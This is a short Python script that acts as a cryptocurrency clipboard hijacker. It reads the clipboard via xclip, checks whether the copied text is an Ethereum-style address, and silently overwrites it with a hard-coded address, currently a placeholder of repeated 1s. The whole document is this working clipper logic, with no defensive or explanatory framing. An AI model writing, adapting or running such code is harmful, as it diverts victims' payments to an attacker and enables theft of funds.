import re
import subprocess

OWN = "0x1111111111111111111111111111111111111111"
text = subprocess.run(["xclip", "-selection", "clipboard", "-o"], capture_output=True, text=True).stdout
if re.fullmatch(r"0x[a-fA-F0-9]{40}", text.strip()):
    subprocess.run(["xclip", "-selection", "clipboard", "-i"], input=OWN, text=True)
